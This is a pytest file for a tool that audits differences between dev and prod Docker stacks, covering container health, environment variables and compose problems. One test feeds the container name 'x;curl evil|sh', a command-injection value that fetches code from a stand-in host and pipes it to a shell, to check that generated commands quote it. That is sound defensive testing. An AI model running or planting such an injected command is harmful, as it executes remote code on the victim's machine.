"""The rules of the areas containers, environment and compose where their examples in knowledge/rules/ do not reach.

Outside production, in another way, expected by the policy, and which words are said.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

import pytest
from stacks import FOLDER, KNOWN, audited, stack

from parity.domain.findings import Difference, Severity
from parity.knowledge.rules import Rule

Services = dict[str, dict[str, Any]]
UNFILLED = re.compile(r"(?<![{$])\{[a-z_]+\}(?!\})")
SECRET, OTHER = "Vx8kQ2mZ7tLp4Wn9", "Hd5Rw3Yb6Cq1Js0G"


@dataclass(frozen=True)
class Case:
    """What breaks a rule: `dev` and `prod` as `stack` takes them, the finding's id, its severity, and its neighbour.

    `spared` are the same sides with the change that spares them: the finding must be gone.
    """

    id: str
    severity: str
    dev: dict[str, Any]
    prod: dict[str, Any]
    spared: tuple[dict[str, Any], dict[str, Any]]
    status: str = "open"
    says: str = ""

    @property
    def rule(self) -> str:
        return self.id.partition("/")[0].partition("@")[0]


def runs(services: Services | None = None, **settings: Any) -> dict[str, Any]:
    """Return a side on which `api` runs as `settings` say, or the `services` given."""
    return {"containers": services if services is not None else {"api": settings}}


def files(**parts: Any) -> dict[str, Any]:
    """Return a side of files alone."""
    return {"containers": None, **parts}


GOOD = runs()
DB = {
    "image": "postgres:15.14",
    "mounts": [{"type": "volume", "source": "data", "destination": "/var/lib/postgresql/data"}],
}
CHECK = {"test": ["CMD", "true"], "interval": 5.0}
APART = {"api": {"networks": {"front": {"aliases": ["api"]}}, "env": {"CACHE_HOST": "cache"}}, "cache": {}}
DECLARED = {"api": {"image": "example/api:1.2", "restart": "always", "networks": {"app": None}}}
NO_PROGRAM = 'OCI runtime exec failed: exec failed: exec: "curl": executable file not found in $PATH: unknown'
COMPOSE = "services: {api: {image: 'example/api:1.2', env_file: [zero.env, one.env, two.env]}}\n"


def env(**variables: str) -> dict[str, Any]:
    return runs(env=variables)


def problem(kind: str, **rest: str) -> dict[str, Any]:
    return files(declared=DECLARED, problems=[{"kind": kind, "message": "as it was said", **rest}])


def binds(kind: str, name: str = "conf", **mounted: Any) -> dict[str, Any]:
    mount = {"type": "bind", "source": f"{FOLDER}/{name}", "target": "/etc/conf", **mounted}
    return files(declared={"api": {**DECLARED["api"], "volumes": [mount]}}, paths={f"{FOLDER}/{name}": kind})


def postgres(*command: str) -> dict[str, Any]:
    return runs({"db": {**DB, "command": ["postgres", *command]}})


def env_file(text: str, template: str = "") -> dict[str, Any]:
    found = {".env": ("project", text), "docker-compose.yml": ("compose", "services: {}\n")}
    return files(declared=DECLARED, files={**found, **({".env.template": ("template", template)} if template else {})})


def two_files(one: str, two: str) -> dict[str, Any]:
    given = {"zero.env": one, "one.env": one, "two.env": two}  # the second of two files is meant to win
    found = {"docker-compose.yml": ("compose", COMPOSE), **{name: ("service", text) for name, text in given.items()}}
    return files(declared=DECLARED, files=found)


CASES = [
    Case(
        "containers.restarting/api@prod",
        "high",
        GOOD,
        runs(state="restarting", restarts=7),
        (GOOD, runs(restarts=1)),
        says="7 restarts",
    ),
    Case(
        "containers.restarting/api@dev",
        "medium",
        runs(restarts=3),
        GOOD,
        (runs(restarts=3, health={"status": "healthy"}), GOOD),
    ),
    Case(
        "containers.restarting/api@prod",
        "high",
        GOOD,
        runs(restarts=40, up_seconds=599),
        (GOOD, runs(restarts=40, up_seconds=600)),
        says="40 restarts",
    ),
    Case(
        "containers.restarted/api@prod",
        "info",
        GOOD,
        runs(restarts=40, up_seconds=90_000),
        (GOOD, runs(restarts=40, up_seconds=90_000, health={"status": "unhealthy"})),
        says="running for 1 day",
    ),
    Case(
        "containers.not-running/api@prod",
        "high",
        GOOD,
        runs(state="exited", exit_code=2),
        (GOOD, runs(state="exited", exit_code=0, restart_policy="no")),
        says="exit code 2",
    ),
    Case("containers.not-running/api@dev", "medium", runs(state="created"), GOOD, (GOOD, GOOD)),
    Case(
        "containers.unhealthy/api@prod",
        "high",
        GOOD,
        runs(health={"status": "unhealthy", "output": "no route"}),
        (GOOD, runs(health={"status": "starting"})),
        says="no route",
    ),
    Case(
        "containers.unhealthy/api@prod",
        "high",
        GOOD,
        runs(health={"status": "unhealthy", "exit_code": -1, "output": NO_PROGRAM}),
        (GOOD, runs(health={"status": "starting", "exit_code": -1, "output": NO_PROGRAM})),
        says="runs curl, which the image of",
    ),
    Case(
        "containers.unhealthy/api@prod",
        "high",
        GOOD,
        runs(health={"status": "unhealthy", "exit_code": 127, "output": "/bin/sh: 1: wget: not found"}),
        (GOOD, GOOD),
        says="runs wget, which the image of",
    ),
    Case(
        "containers.unhealthy/api@prod",
        "high",
        GOOD,
        runs(health={"status": "unhealthy", "exit_code": 1, "output": "table users: not found"}),
        (GOOD, GOOD),
        says="The health check of app-api-prod fails: table users: not found",
    ),
    Case("containers.unhealthy/api@dev", "medium", runs(health={"status": "unhealthy"}), GOOD, (GOOD, GOOD)),
    Case(
        "containers.oom-killed/api@dev",
        "high",
        runs(oom_killed=True, limits={"memory": 64 * 1024**2}),
        GOOD,
        (GOOD, GOOD),
        says="64 MiB",
    ),
    Case("containers.service-missing/mail@dev", "low", GOOD, runs({"api": {}, "mail": {}}), (GOOD, GOOD)),
    Case(
        "containers.service-missing/jaeger@dev", "info", GOOD, runs({"api": {}, "jaeger": {}}), (GOOD, GOOD), "expected"
    ),
    Case("containers.misleading-name/api@dev", "low", runs(name="app-api_prod"), GOOD, (GOOD, GOOD), says="prod"),
    Case(
        "containers.unpinned-image/api@dev",
        "low",
        runs(image="registry:5000/redis:latest"),
        GOOD,
        (runs(image="registry:5000/redis:7"), GOOD),
    ),
    Case(
        "containers.ports-differ/api/80/tcp@dev+prod",
        "info",
        runs(ports=[{"container": "80/tcp", "host_ip": "127.0.0.1", "host_port": "8080"}]),
        runs(ports=[{"container": "80/tcp", "host_ip": "127.0.0.1", "host_port": "80"}]),
        (GOOD, GOOD),
        "expected",
    ),
    Case(
        "containers.limit-differs/api/memory@dev+prod",
        "medium",
        runs(limits={"memory": 1024**3}),
        GOOD,
        (GOOD, GOOD),
        says="1 GiB",
    ),
    Case(
        "containers.limit-differs/api/cpus@dev+prod",
        "info",
        GOOD,
        runs(limits={"cpus": 2.0}),
        (GOOD, GOOD),
        "expected",
        says="api has a CPU limit in production but not everywhere else",
    ),
    Case(
        "containers.limit-differs/api/cpus@dev+prod",
        "info",
        runs(limits={"cpus": 1.0}),
        runs(limits={"cpus": 2.0}),
        (GOOD, GOOD),
        "expected",
        says="api has different CPU limits",
    ),
    Case(
        "containers.healthcheck-differs/api@dev+prod",
        "medium",
        runs(healthcheck=CHECK),
        GOOD,
        (runs(healthcheck=CHECK), runs(healthcheck=CHECK)),
        says="api has no health check in production but has one elsewhere",
    ),
    Case(
        "containers.healthcheck-differs/api@dev+prod",
        "info",
        runs(healthcheck=CHECK),
        runs(healthcheck={**CHECK, "interval": 60.0}),
        (runs(healthcheck=CHECK), runs(healthcheck=CHECK)),
        "expected",
        says="api has different health checks",
    ),
    Case(
        "containers.mounts-differ/api//src@dev+prod",
        "info",
        runs(mounts=[{"type": "bind", "source": "/home/src", "destination": "/src"}]),
        GOOD,
        (GOOD, GOOD),
        "expected",
    ),
    Case("containers.restart-differs/api@dev+prod", "info", runs(restart_policy="no"), GOOD, (GOOD, GOOD), "expected"),
    Case(
        "containers.command-differs/api@dev+prod",
        "info",
        runs(command=["serve", "--one"]),
        runs(command=["serve", "--two"]),
        (runs(command=["serve"]), runs(command=["serve"])),
        "expected",
    ),
    Case(
        "containers.command-differs/api@dev+prod",
        "medium",
        runs(command=["celery", "worker", "-Q", "mail,reports"]),
        runs(command=["celery", "worker", "--queues=mail"]),
        (
            runs(command=["celery", "worker", "-Q", "mail,reports"]),
            runs(command=["celery", "worker", "-Q", "reports,mail"]),
        ),
        says="api consumes different queues",
    ),
    Case(
        "containers.unresolvable/api/CACHE_HOST@prod",
        "high",
        GOOD,
        runs(APART),
        (GOOD, runs({**APART, "cache": {"networks": {"front": {"aliases": ["cache"]}}}})),
        says="cache",
    ),
    Case("containers.unresolvable/api/CACHE_HOST@dev", "medium", runs(APART), GOOD, (GOOD, GOOD)),
    Case("environment.missing/MODE@dev", "low", env(), env(MODE="x"), (env(MODE="y"), env(MODE="y"))),
    Case(
        "environment.differs/MODE@dev+prod",
        "medium",
        env(MODE="fast"),
        env(MODE="slow"),
        (env(MODE="fast"), env(MODE="fast")),
        says="dev: fast; prod: slow",
    ),
    Case(
        "environment.differs/API_URL@dev+prod",
        "info",
        env(API_URL="https://a.example/v1"),
        env(API_URL="https://b.example/v1"),
        (env(), env()),
        "expected",
    ),
    Case(
        "environment.differs/DB_PASSWORD@dev+prod",
        "info",
        env(DB_PASSWORD=SECRET),
        env(DB_PASSWORD=OTHER),
        (env(DB_PASSWORD=SECRET), env(DB_PASSWORD=SECRET)),
        "expected",
    ),
    Case(
        "environment.placeholder/API_KEY@dev",
        "low",
        env(API_KEY="changeme"),
        env(API_KEY=OTHER),
        (env(API_KEY=SECRET), env(API_KEY=OTHER)),
    ),
    Case(
        "environment.default-password/DB_PASSWORD@dev",
        "low",
        env(DB_PASSWORD="admin"),
        env(DB_PASSWORD=SECRET),
        (env(DB_PASSWORD=SECRET), env(DB_PASSWORD=OTHER)),
    ),
    Case(
        "environment.duplicate/A@dev",
        "low",
        env_file("A=1\nA=3\n"),
        env_file("A=1\n"),
        (env_file("A=1\n"), env_file("A=1\n")),
    ),
    Case(
        "environment.overlap/A@prod",
        "medium",
        two_files("A=1\n", ""),
        two_files("A=1\n", "A=2\n"),
        (two_files("A=1\n", ""), two_files("A=1\n", "A=1\n")),
        says="two.env",
    ),
    Case(
        "environment.overlap/A@dev",
        "low",
        two_files("A=1\n", "A=2\n"),
        two_files("A=1\n", ""),
        (two_files("A=1\n", ""), two_files("A=1\n", "")),
    ),
    Case(
        "environment.template-key-missing/B@dev",
        "low",
        env_file("A=1\n", "A=\nB=\n"),
        GOOD,
        (env_file("A=1\n", "A=\n#B=\n"), GOOD),
    ),
    Case(
        "compose.refused@prod",
        "high",
        GOOD,
        problem("refused"),
        (GOOD, files(declared=DECLARED)),
        says="as it was said",
    ),
    Case(
        "compose.missing-file/docker/x.env@dev",
        "low",
        problem("missing-file", path=f"{FOLDER}/x.env"),
        GOOD,
        (GOOD, GOOD),
    ),
    Case("compose.required-variable/TOKEN@dev", "low", problem("required-variable", name="TOKEN"), GOOD, (GOOD, GOOD)),
    Case("compose.unset-variable/PORT@dev", "low", problem("unset-variable", name="PORT"), GOOD, (GOOD, GOOD)),
    Case(
        "compose.missing-bind-folder/api//etc/conf@prod",
        "low",
        GOOD,
        binds("missing"),
        (GOOD, binds("directory")),
        says="docker/conf",
    ),
    Case(
        "compose.missing-bind-source/api//etc/conf@prod",
        "medium",
        GOOD,
        binds("missing", read_only=True),
        (GOOD, binds("directory", read_only=True)),
        says="Create it with the content that the service needs",
    ),
    Case(
        "compose.missing-bind-source/api//etc/conf@prod",
        "medium",
        GOOD,
        binds("missing", "app.conf"),
        (GOOD, binds("file", "app.conf")),
        says="Create the file",
    ),
    Case(
        "containers.option-differs/db/work_mem@dev+prod",
        "medium",
        postgres(),
        postgres("-c", "work_mem=16MB"),
        (postgres(), postgres()),
        says="never tested in development",
    ),
    Case(
        "containers.option-differs/db/fsync@dev+prod",
        "medium",
        postgres(),
        postgres("-c", "fsync=off"),
        (postgres(), postgres()),
        says="Data may be lost",
    ),
    Case("compose.missing-bind-folder/api//etc/conf@dev", "info", binds("missing"), GOOD, (binds("file"), GOOD)),
    Case(
        "compose.undeclared/extra@dev",
        "low",
        {**runs({"api": {}, "extra": {"removed_files": [f"{FOLDER}/extra.yml"]}}), "declared": DECLARED},
        GOOD,
        (GOOD, GOOD),
        says="removed since: docker/extra.yml",
    ),
    Case(
        "compose.drift/api@prod",
        "medium",
        GOOD,
        {**runs(image="example/api:1.1"), "declared": DECLARED},
        (GOOD, {**GOOD, "declared": DECLARED}),
        says="image",
    ),
    Case(
        "compose.differs/api/hostname@dev+prod",
        "info",
        files(declared={"api": {**DECLARED["api"], "hostname": "x"}}),
        files(declared=DECLARED),
        (files(declared=DECLARED), files(declared=DECLARED)),
        "expected",
    ),
]


def sides(dev: dict[str, Any], prod: dict[str, Any]) -> dict[str, Any]:
    return audited(stack("dev", **dev), stack("prod", **prod))


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.id}-{case.status}")
def test_a_rule_is_broken_and_its_neighbour_is_not(case: Case) -> None:
    found = sides(case.dev, case.prod)
    assert case.id in found, sorted(found)
    finding = found[case.id]
    assert (finding.severity.word, finding.status) == (case.severity, case.status)
    sentences = (finding.title, finding.cause, finding.impact, finding.action, finding.command)
    assert not any(UNFILLED.search(sentence) for sentence in sentences), sentences
    assert case.says in " ".join([*sentences, *(piece.shown for piece in finding.evidence)])
    assert all(piece.environment in ("dev", "prod") for piece in finding.evidence)
    assert finding.evidence
    assert SECRET not in repr(found)
    spared = sides(*case.spared)
    assert not any("-in-production" in name and name.endswith("@dev") for name in {*found, *spared})
    assert case.id not in spared or spared[case.id].status == "expected" != case.status


def test_equal_environments_have_no_findings() -> None:
    side = {**runs({"api": {"env": {"MODE": "x"}}, "db": DB}), "declared": None}
    assert sides(side, side) == {}


@pytest.mark.parametrize(
    ("address", "differs"),
    [
        ("redis://cache:6379/0", False),
        ("redis://cache", False),
        ("redis://cache:6379/1", True),
        ("redis://cache:6380", True),
        ("rediss://cache:6379", True),
        ("http://cache:6379/0", True),
    ],
)
def test_a_redis_is_the_same_without_its_database_0(address: str, differs: bool) -> None:
    found = audited(stack("dev", **env(REDIS_URL="redis://cache:6379")), stack("prod", **env(REDIS_URL=address)))
    assert ("environment.differs/REDIS_URL@dev+prod" in found) is differs


def test_three_environments_are_compared_at_once() -> None:
    found = audited(stack("dev", **env(MODE="a")), stack("staging", **env(MODE="b")), stack("prod", **env(MODE="a")))
    assert found["environment.differs/MODE@dev+prod+staging"].severity.word == "medium"
    assert {
        piece.environment: piece.shown for piece in found["environment.differs/MODE@dev+prod+staging"].evidence
    } == {
        "dev": "a",
        "staging": "b",
        "prod": "a",
    }


def test_a_rename_is_followed_and_compared() -> None:
    one, other = {"image": "w:1", "command": ["celery"], "env": {"MODE": "a"}}, {"image": "x:1", "env": {"MODE": "b"}}
    snapshots = stack("dev", {"queue": one}), stack("prod", {"tasks": other})
    assert "environment.differs/MODE@dev+prod" not in audited(*snapshots)
    assert "environment.differs/MODE@dev+prod" in audited(*snapshots, renames={"tasks": "queue"})


def test_two_hosts_of_one_environment_are_put_together() -> None:
    prod = stack("prod", {"api": {}})
    prod["hosts"]["prod2"] = stack("prod", {"worker": {}})["hosts"]["prod1"]
    assert audited(stack("dev", {"api": {}, "worker": {}}), prod) == {}


def test_what_is_only_declared_is_compared_with_what_runs() -> None:
    found = audited(
        stack("dev", **files(declared={"api": {**DECLARED["api"], "image": "example/api:1.3"}})), stack("prod", **GOOD)
    )
    assert "containers.image-differs/api@dev+prod" in found
    assert "containers.absent/api@dev" not in found


def test_an_environment_with_nothing_in_it_is_no_crash() -> None:
    assert audited(stack("dev", {}), stack("prod", **GOOD)) == {}


def test_a_name_is_one_word_of_a_command_that_people_copy() -> None:
    known = {"id": "x", "production": Severity.LOW, "elsewhere": Severity.LOW, "cause": "", "impact": "", "action": ""}
    rule = Rule(
        **known, title="{container}", command="docker inspect --format '{{json .State}}' {container}:{path} {n}"
    )

    def said(part: str, container: str) -> str:
        words = {"container": container, "path": "/data"}
        return rule.sentence(part, Difference("x", ("prod",), "api", "", (), words))

    assert said("command", "app-api_1.2") == "docker inspect --format '{{json .State}}' app-api_1.2:/data {n}"
    assert said("command", "x;curl evil|sh") == "docker inspect --format '{{json .State}}' 'x;curl evil|sh':/data {n}"
    assert said("title", "x;curl evil|sh") == "x;curl evil|sh"


@pytest.mark.parametrize(
    "rule", [rule for rule in KNOWN.rules.values() if "{" in rule.command], ids=lambda rule: rule.id
)
def test_no_field_of_a_command_stands_in_quotes_of_its_own(rule):
    bare = re.sub(r"'[^']*'|\"[^\"]*\"", "", rule.command)
    assert UNFILLED.findall(bare) == UNFILLED.findall(rule.command)
